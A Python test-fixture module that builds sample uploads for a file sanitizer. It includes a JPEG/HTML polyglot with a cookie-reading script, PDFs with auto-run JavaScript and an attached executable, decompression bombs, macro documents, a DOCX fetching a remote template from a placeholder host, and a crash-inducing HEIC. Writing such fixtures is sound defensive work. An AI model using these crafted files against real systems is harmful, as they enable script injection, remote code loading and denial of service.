"""Files as they come from outside, made here: honest ones, and those that want to do harm."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pikepdf
from pi_heif import register_heif_opener
from PIL import Image

register_heif_opener()  # for what the tests read themselves; the house reads HEIC in a process of its own
PLACE = {1: "N", 2: (16.0, 4.0, 0.0), 3: "E", 4: (108.0, 13.0, 0.0)}


def picture(kind: str = "JPEG", size: tuple[int, int] = (40, 24), **how: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, kind, **how)
    return out.getvalue()


def picture_that_tells_its_place(kind: str = "JPEG") -> bytes:
    exif = Image.Exif()
    exif[0x0110] = "Chiếc máy của Tâm"
    exif.get_ifd(0x8825).update(PLACE)
    return picture(kind, exif=exif)


def heic() -> bytes:
    """A picture that tells its place; drawn for these tests and kept, since nothing here writes HEIC."""
    return (Path(__file__).parent / "cong.heic").read_bytes()


def heic_that_kills() -> bytes:
    """The same with one byte altered: pi_heif 1.4.0 ends the process that opens it with SIGSEGV."""
    raw = bytearray(heic())
    assert raw[177] == ord("x")  # of "Exif", the kind of its second item
    raw[177] = 0xA4
    return bytes(raw)


def picture_that_is_a_page() -> bytes:
    """A JPEG and an HTML page at once: a comment segment and a tail."""
    jpeg = picture()
    page = b"<html><script>alert(document.cookie)</script></html>"
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(page) + 2) + page + jpeg[2:] + page


def picture_that_is_a_zip() -> bytes:
    out = io.BytesIO(picture())
    with zipfile.ZipFile(out, "a") as tail:
        tail.writestr("virus.js", "alert(1)")
    return out.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A few bytes that unpack to so many points."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        checked = kind + content
        return struct.pack(">I", len(content)) + checked + struct.pack(">I", zlib.crc32(checked))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(1_000_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def paper(*, script: bool = False, attached: bool = False, signed: bool = False, password: str = "") -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.docinfo["/Author"] = "Nguyễn Văn Tâm"
    if script:
        deed = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        pdf.Root.OpenAction = pdf.make_indirect(deed)
    if attached:
        pdf.attachments["thu.exe"] = b"MZ\x90"
    if signed:
        pdf.Root.Sig = pikepdf.Dictionary(Type=pikepdf.Name.Sig, ByteRange=[0, 1, 2, 3])
    out = io.BytesIO()
    locked = pikepdf.Encryption(owner=password, user=password) if password else False
    # Objects packed in streams: a script that a search for its name in the file would not find.
    pdf.save(out, encryption=locked, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def paper_that_unpacks_to(size: int) -> bytes:
    """An object stream of blanks: a kilobyte for each megabyte."""
    packed = zlib.compress(b"1 0 <</Type/Catalog>>" + b" " * size, 1)
    stream = b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    body = b"%PDF-1.5\n" + stream + packed + b"\nendstream endobj\n"

    def row(kind: int, at: int) -> bytes:
        return struct.pack(">BIB", kind, at, 0)

    rows = row(0, 0) + row(2, 5) + row(0, 0) * 3 + row(1, 9) + row(1, len(body))
    table = b"6 0 obj<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    return body + table + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % len(body)


WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
TYPES = '<Types><Override PartName="/word/document.xml" ContentType="{}"/></Types>'
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)


def word(**parts: str | bytes) -> bytes:
    """A DOCX; `parts`: more entries, "__" standing for "/" and "_DOT_" for "."."""
    entries: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES.format(WORD),
        "word/document.xml": "<document>Đơn kiến nghị</document>",
        "docProps/core.xml": "<coreProperties><creator>Nguyễn Văn Tâm</creator></coreProperties>",
    }
    entries |= {name.replace("__", "/").replace("_DOT_", "."): part for name, part in parts.items()}
    return packed(entries)


def word_with_macros() -> bytes:
    types = TYPES.format(MACRO_WORD)
    return packed({"[Content_Types].xml": types, "word/document.xml": "", "word/vbaProject.bin": b"\xd0\xcf"})


def word_that_fetches() -> bytes:
    template = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    told = f'<Relationship Id="r1" Type="{template}" Target="http://192.0.2.1/x.dotm" TargetMode="External"/>'
    return word(word___rels__settings_DOT_xml_DOT_rels=RELATIONS.format(told))


def word_with_a_comment() -> bytes:
    """Some programs leave one among the links."""
    return word(word___rels__document_DOT_xml_DOT_rels=RELATIONS.format("<!-- made by a program -->"))


def word_with_an_entity() -> bytes:
    """What is fetched stands in an entity, where nobody who reads the links sees it."""
    told = "<!DOCTYPE x [<!ENTITY e \"<Relationship TargetMode='External' Target='http://192.0.2.1'/>\">]>"
    return word(word___rels__document_DOT_xml_DOT_rels=told + RELATIONS.format("&e;"))


def word_with_a_link() -> bytes:
    link = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
    told = f'<Relationship Id="r1" Type="{link}" Target="https://vidu.vn" TargetMode="External"/>'
    return word(word___rels__document_DOT_xml_DOT_rels=RELATIONS.format(told))


def word_that_unpacks_to(megabytes: int) -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("word/media/image1.bmp", bytes(megabytes * 1_048_576))
    return out.getvalue()


def open_text(*, macro: bool = False) -> bytes:
    entries: dict[str, str | bytes] = {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": "<content>Đơn</content>",
        "meta.xml": "<meta>Nguyễn Văn Tâm</meta>",
    }
    return packed(entries | ({"Basic/Standard/Module1.xml": "Shell"} if macro else {}))


def packed(entries: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as anew:
        for name, content in entries.items():
            anew.writestr(name, content)
    return out.getvalue()


def box(kind: bytes, *content: bytes) -> bytes:
    inside = b"".join(content)
    return struct.pack(">I", len(inside) + 8) + kind + inside


def film(brand: bytes = b"isom", *, handler: bytes = b"vide", pixels: bytes = b"\x00" * 64) -> bytes:
    """A video as a telephone writes it: it tells its place twice, and has a track of places besides."""

    def track(of: bytes) -> bytes:
        return box(b"trak", box(b"mdia", box(b"hdlr", bytes(8) + of + bytes(13))))

    place = box(b"udta", box(b"\xa9xyz", b"+16.0678+108.2208/"))
    names = box(b"meta", b"com.apple.quicktime.location.ISO6709+16.0678+108.2208/")
    movie = box(b"moov", box(b"mvhd", bytes(100)), track(handler), track(b"meta"), place, names)
    return box(b"ftyp", brand, bytes(4)) + movie + box(b"mdat", pixels)
